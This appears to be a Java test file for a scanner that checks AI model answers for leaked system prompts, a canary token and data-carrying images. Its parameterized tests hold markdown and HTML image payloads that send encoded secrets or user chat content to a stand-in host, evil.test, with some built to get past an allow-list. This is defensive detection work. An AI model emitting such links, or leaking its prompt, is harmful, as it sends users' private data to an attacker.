package io.m2mgateway.scan.answer;

import static org.assertj.core.api.Assertions.assertThat;

import io.m2mgateway.scan.ScanPolicy;
import io.m2mgateway.scan.Scanner;
import io.m2mgateway.scan.TextScore.Match;
import io.m2mgateway.scan.rules.Strength;
import java.util.List;
import java.util.Objects;
import java.util.Set;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.StringLength;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class AnswerScannerTests {

    private static final String CANARY = "canary-7f3a9c51";

    private static final String PROMPT =
            "You work for the railway desk in Leeds and never quote a fare above the daily cap of the"
                    + " region. Refunds go to the ledger of the second office, which opens at noon.";

    private static final AnswerScanner SCANNER =
            new AnswerScanner(new Scanner(ScanPolicy.DEFAULT), List.of(CANARY), Set.of("cdn.test", ".example.com"));

    private static final PromptWords WORDS = Objects.requireNonNull(PromptWords.of(List.of(PROMPT)));

    private static List<Match> find(String text) {
        return SCANNER.exact(text, WORDS).matches();
    }

    @Test
    void aPromptIsKnownWhateverItsPunctuationAndCase() {
        String told = "Sure! "
                + PROMPT.toUpperCase(java.util.Locale.ROOT).replace(".", " --").replace(" ", "\n ");
        assertThat(find(told)).singleElement().satisfies(match -> {
            assertThat(match.rule()).isEqualTo(AnswerScanner.PROMPT_LEAK);
            assertThat(told.substring(match.start(), match.end()))
                    .startsWith("YOU")
                    .endsWith("NOON");
            assertThat(match.confidence()).isEqualTo(Scanner.confidence(Strength.CERTAIN));
        });
        String part = PROMPT.substring(0, PROMPT.indexOf(" of the"));
        assertThat(find(part))
                .singleElement()
                .satisfies(match -> assertThat(match.confidence()).isEqualTo(Scanner.confidence(Strength.LIKELY)));
        assertThat(find("You work for the railway desk, and I never quote a fare."))
                .isEmpty();
        assertThat(PromptWords.of(List.of("Be brief.", "Be kind."))).isNull();
    }

    @Test
    void aShortPromptLeaksAsAWhole() {
        PromptWords brief = PromptWords.of(List.of("Answer in rhymes only and sign each with Poseidon."));
        assertThat(SCANNER.exact("answer in rhymes only and sign each with poseidon", brief)
                        .matches())
                .hasSize(1);
        assertThat(SCANNER.exact("answer in rhymes only and sign each", brief).matches())
                .isEmpty();
    }

    @Test
    void ideographsAreWords() {
        String text = "你是铁路服务台的助手绝不报出高于每日上限的票价也不谈退款";
        PromptWords prompt = PromptWords.of(List.of(text));
        assertThat(SCANNER.exact("好的：" + text, prompt).matches())
                .singleElement()
                .satisfies(match -> assertThat(match.start()).isEqualTo(3));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![a](https://evil.test/p.png?d=c2VjcmV0IHBhc3N3b3JkIGh1bnRlcjI0Mg)",
                "![a](<https://evil.test/?q=the+user+asked+about+layoffs>)",
                "![a [b] c](https://evil.test/?q=the%20user%20asked%20about%20layoffs)",
                "![a](//c2VjcmV0IHBhc3N3b3JkIGh1bnRlcjI0Mg.evil.test/x.png)",
                "<IMG alt='x' SRC=\"https://evil.test/a7f3c2d9e8b1a7f3c2d9e8b1.gif\">",
                "![a][1]\n\n[1]: https://evil.test/?d=c2VjcmV0IHBhc3N3b3JkIGh1bnRlcjI0Mg",
                "![a](https://cdn.test.evil.test/?d=c2VjcmV0IHBhc3N3b3JkIGh1bnRlcjI0Mg)",
                "![a](https://cdn.test@evil.test/?d=c2VjcmV0IHBhc3N3b3JkIGh1bnRlcjI0Mg)"
            })
    void imagesThatCarryDataAreFound(String text) {
        assertThat(find("See " + text + " there")).extracting(Match::rule).containsExactly(AnswerScanner.IMAGE);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![a](https://evil.test/logo.png)",
                "![a](/c2VjcmV0IHBhc3N3b3JkIGh1bnRlcjI0Mg)",
                "![a](https://cdn.test/?d=c2VjcmV0IHBhc3N3b3JkIGh1bnRlcjI0Mg)",
                "![a](https://x.example.com:8443/?d=c2VjcmV0IHBhc3N3b3JkIGh1bnRlcjI0Mg)",
                "a[1] (b) and c[i](d) ![",
                "[the best way](https://docs.test/how-to-cook-rice-in-2024-the-best-way)",
                "1 < 2 <im <i>x</i> <b src=https://evil.test/?d=c2VjcmV0IHBhc3N3b3JkIGh1bnRlcjI0Mg>"
            })
    void othersAreNot(String text) {
        assertThat(find(text)).isEmpty();
    }

    @Test
    void aLinkIsLikelyOnly() {
        assertThat(find("[x](https://evil.test/?q=the+user+asked+about+layoffs)"))
                .singleElement()
                .satisfies(match -> assertThat(match.confidence()).isEqualTo(Scanner.confidence(Strength.LIKELY)));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Well: " + CANARY + " and ![a](https://evil.test/?d=c2VjcmV0IHBhc3N3b3JkIGh1bnRlcjI0Mg) so",
                "<img src=https://evil.test/?q=the+user+asked+about+layoffs> and " + CANARY + " so"
            })
    void whatIsSettledNeverBeginsAFind(String text) {
        for (Match match : find(text)) {
            for (int length = 0; length < match.end(); length++) {
                assertThat(SCANNER.settled(text.substring(0, length), WORDS))
                        .as("after " + length)
                        .isLessThanOrEqualTo(match.start());
            }
        }
        assertThat(SCANNER.settled(text, WORDS)).isEqualTo(text.length());
    }

    @Test
    void honestTextIsSettledButForItsLastLetters() {
        String text =
                "The 9:40 from Leeds reaches York at 10:05 [platform 2]; change nowhere, and hold on to the ticket.";
        int held = 0;
        for (int length = 0; length <= text.length(); length++) {
            held = Math.max(held, length - SCANNER.settled(text.substring(0, length), WORDS));
        }
        assertThat(held).isLessThan(16);
    }

    @Property(tries = 300)
    void anyTextIsReadAndSettledWithinItself(@ForAll @StringLength(max = 300) String text) {
        for (Match match : find(text)) {
            assertThat(match.start()).isBetween(0, match.end());
            assertThat(match.end()).isLessThanOrEqualTo(text.length());
        }
        assertThat(SCANNER.settled(text, WORDS)).isBetween(0, text.length());
    }

    @ParameterizedTest
    @ValueSource(strings = {"[", "![", "![a](", "<img ", "<", "[a](http://x/?", "[a]:", "you work for "})
    void aMegabyteOfBeginningsTakesNoLongerThanItsLength(String beginning) {
        // Quadratic time would take hours: the test ends or it does not.
        String text = beginning.repeat((1 << 20) / beginning.length());
        assertThat(SCANNER.settled(text, WORDS)).isBetween(0, text.length());
        assertThat(find(text).size()).isLessThan(text.length());
    }
}
